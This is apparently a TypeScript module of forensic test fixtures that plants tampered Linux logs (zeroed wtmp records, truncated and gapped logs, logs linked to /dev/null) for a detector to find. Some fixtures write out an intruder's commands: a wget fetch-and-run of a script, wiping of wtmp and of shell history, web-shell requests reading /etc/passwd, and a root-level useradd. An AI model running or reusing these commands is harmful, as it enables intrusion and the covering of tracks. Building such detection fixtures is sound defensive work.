/** Logs that were cut, overwritten or led astray, and what they still tell. */

import { file, type Sign } from '../sign.ts';
import type { Put } from '../tree.ts';

const adm = { group: 'adm', mode: 0o640 } as const;

/** A record of wtmp, 384 bytes. */
function login(type: number, user: string, tty: string, host: string, pid: number, seconds: number): Buffer {
	const record = Buffer.alloc(384);
	record.writeInt16LE(type, 0);
	record.writeInt32LE(pid, 4);
	record.write(tty, 8, 32, 'latin1');
	record.write(tty.slice(-4), 40, 4, 'latin1');
	record.write(user, 44, 32, 'latin1');
	record.write(host, 76, 256, 'latin1');
	record.writeInt32LE(seconds, 340);
	return record;
}

const start = Date.UTC(2025, 9, 20) / 1000;
const wtmp = Buffer.concat([
	login(2, 'reboot', '~', '6.1.0', 0, start),
	...Array.from({ length: 20 }, (_, n) => [login(7, 'ada', 'pts/0', '10.0.0.7', 900 + n, start + 3600 * (n + 1)), n === 11 ? Buffer.alloc(384) : login(8, '', 'pts/0', '', 900 + n, start + 3600 * (n + 1) + 600)]).flat(),
]);
const stamp = (seconds: number): string => new Date(seconds * 1000).toISOString().replace('Z', '000+00:00');
const every = (from: number, count: number, step: number, words: (n: number) => string): string => Array.from({ length: count }, (_, n) => `${stamp(from + n * step)} server ${words(n)}\n`).join('');
const cronLine = (n: number): string => `CRON[${3000 + n}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`;

/** A log that tells of somebody: the finding is about whom it tells of. */
function told(id: string, what: string, names: string, path: string, content: string, put: Put): Sign {
	return { ...file(id, 'evidence', what, path, content, put), names: [names], also: [path] };
}

export const fourthLogs: readonly Sign[] = [
	file('wtmp-zeroed', 'evidence', 'a record of a login made zero', '/var/log/wtmp', wtmp, { group: 'utmp', mode: 0o664 }),
	file('wtmp-cut', 'evidence', 'an older list of logins cut within a record', '/var/log/wtmp.1', wtmp.subarray(0, 384 * 9 + 100), { group: 'utmp', mode: 0o664 }),
	file('auth-nul', 'evidence', 'zeros written over part of a log', '/var/log/auth.log', Buffer.concat([Buffer.from(every(start, 300, 600, cronLine)), Buffer.alloc(900), Buffer.from(`\n${every(start + 300 * 600, 300, 600, cronLine)}`)]), adm),
	file('syslog-gap', 'evidence', 'two days missing from a log that has a line each minute', '/var/log/syslog', every(start, 2000, 60, n => `systemd[1]: Started session-${n}.scope.`) + every(start + 2000 * 60 + 172_800, 2000, 60, n => `systemd[1]: Started session-${n + 9000}.scope.`), adm),
	file('cron-backwards', 'evidence', 'lines whose time runs backwards', '/var/log/cron.log', every(start, 200, 300, cronLine) + every(start - 900_000, 20, 300, cronLine) + every(start + 200 * 300, 200, 300, cronLine), adm),
	told('history-told', 'what the intruder typed', 'account root', '/root/.bash_history', 'ls\nid\nwget http://203.0.113.9/x.sh -O /tmp/x.sh\nchmod +x /tmp/x.sh\n/tmp/x.sh\necho > /var/log/wtmp\nhistory -c\n', { mode: 0o600 }),
	told('promiscuous', 'a card that listened to everything', 'interface eth0', '/var/log/kern.log', `${stamp(start + 400_000)} server kernel: [404711.000000] device eth0 entered promiscuous mode\n`, adm),
	told('access-shell', 'requests to a web shell', 'host 203.0.113.9', '/var/log/apache2/access.log', Array.from({ length: 30 }, (_, n) => `203.0.113.9 - - [20/Oct/2025:03:1${n % 10}:00 +0000] "GET /wp-content/uploads/2025/06/x.php?cmd=cat%20/etc/passwd HTTP/1.1" 200 ${900 + n} "-" "curl/7.88"\n`).join(''), adm),
	told('auth-useradd', 'an account made root, by the log alone', 'account sysadm', '/var/log/auth.log.1', every(start - 900_000, 40, 3600, cronLine) + `${stamp(start - 700_000)} server useradd[4242]: new user: name=sysadm, UID=0, GID=0, home=/root, shell=/bin/bash, from=none\n`, adm),
	{ id: 'apt-history-null', family: 'evidence', what: 'what was installed thrown away', plant: tree => tree.link('/dev/null', '/var/log/apt/history.log'), names: ['/var/log/apt/history.log'] },
	{ id: 'dpkg-log-null', family: 'evidence', what: 'a log led into another', plant: tree => tree.link('/dev/zero', '/var/log/dpkg.log'), names: ['/var/log/dpkg.log'] },
	{ id: 'log-open', family: 'evidence', what: 'a log anyone may write', plant: tree => tree.write('/var/log/mail.log', every(start, 10, 600, n => `postfix/smtpd[${n}]: connect from unknown[10.0.0.7]`), { mode: 0o666 }), names: ['/var/log/mail.log'] },
];
